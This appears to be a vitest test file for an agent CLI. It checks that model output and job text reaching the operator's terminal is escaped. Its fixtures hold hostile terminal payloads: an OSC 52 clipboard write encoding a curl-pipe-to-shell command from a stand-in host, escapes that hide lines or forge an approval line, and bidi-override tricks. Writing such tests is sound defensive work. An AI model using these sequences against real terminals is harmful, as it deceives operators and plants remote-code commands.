import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { waitingCall } from '../../src/cli/attended-deps.ts';
import { createJob } from '../../src/store/jobs.ts';
import type { ApprovalRow } from '../../src/store/schema.ts';
import { runCli } from '../support/cli.ts';
import { useTestDatabase } from '../support/db.ts';
import { startFakeModel } from '../support/fake-model.ts';

// What a model or a job's maker wrote reaches the operator's terminal only as visible text: an escape sequence
// could hide the lines after it (ESC[8m), forge a line the person trusts (cursor moves), or write the clipboard (OSC 52).
const database = useTestDatabase();
const ESC = '\u001b';
const RLO = '\u202e';
const CSI = '\u009b';
const HIDE_THE_REST = `${ESC}]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94fHNo${ESC}\\${ESC}[8m`;
const RAW = /[\u001b\u009b\u202e]/;
let model: Awaited<ReturnType<typeof startFakeModel>>;

beforeAll(async () => {
  model = await startFakeModel(() => ({ content: `${ESC}[2A${ESC}[2K  cronjob: deny (step 11, approval.human.deny)\n${ESC}]0;owned${ESC}\\All done.` }));
});
afterAll(() => model.close());

function configFile(extra = ''): string {
  const dir = mkdtempSync(join(tmpdir(), 'echo-escapes-'));
  const file = join(dir, 'echo-agent.yaml');
  writeFileSync(file, `database:\n  url: postgres://postgres@127.0.0.1:5432/test?options=-c%20search_path%3D${database().schema}\ntools:\n  workspace: ${dir}\n${extra}`);
  return file;
}

const job = (name: string, prompt: string) => createJob(database().db, {
  name, owner: 'alice', created_by: 'alice', schedule: '0 3 * * *', timezone: 'UTC', payload: { kind: 'agent', prompt }, tools: [], paused: false,
});

describe('model and maker text on the operator\'s terminal is shown, never obeyed', () => {
  it('run: the final answer keeps its line breaks, and its escape sequences are shown as text', async () => {
    const file = configFile(`model:\n  base_url: ${model.url}\n  name: scripted\n  api_key: sk-escapes-test-000001\n`);
    const r = await runCli(['run', 'hello'], { env: { ECHO_AGENT_CONFIG: file } });
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).not.toMatch(RAW);
    expect(r.stdout).toContain('\\u001b[2A');
    expect(r.stdout.trimEnd().split('\n')).toHaveLength(2);
  });

  it('grants show: a job name that would hide the lines after it is shown, and so are those lines', async () => {
    const j = await job(`nightly${HIDE_THE_REST}`, 'report');
    const r = await runCli(['grants', 'show', j.id], { env: { ECHO_AGENT_CONFIG: configFile() } });
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).not.toMatch(RAW);
    expect(r.stdout).toContain('cron_authorized: no');
  });

  it('jobs show: a payload with a bidi override or a C1 control is escaped', async () => {
    const j = await job('bidi', `summarise the logs${RLO}${CSI}2J then delete nothing`);
    const r = await runCli(['jobs', 'show', j.id], { env: { ECHO_AGENT_CONFIG: configFile() } });
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout.split('\n').find((l) => l.startsWith('payload:'))).toMatch(/\\u202e\\u009b2J/);
    expect(r.stdout).not.toMatch(RAW);
  });

  it('check call --job: the note naming the job escapes its name', async () => {
    const j = await job(`noted${HIDE_THE_REST}`, 'report');
    const r = await runCli(['check', 'call', '--job', j.id, '--tool', 'read_file', '--args', '{"path":"x"}'], { env: { ECHO_AGENT_CONFIG: configFile() } });
    expect(r.stderr).toContain('note: --job:');
    expect(r.stderr).not.toMatch(RAW);
  });

  it('the "approval … is waiting" line escapes what JSON leaves raw (C1 controls, bidi overrides)', () => {
    const line = waitingCall({ tool: 'exec', risk: 'exec', flags: [], args: { command: `echo ${RLO}hs.lve|lruc${CSI}2J` } } as Pick<ApprovalRow, 'tool' | 'risk' | 'args' | 'flags'>);
    expect(line).not.toMatch(RAW);
    expect(line).toContain('\\u202e');
  });
});
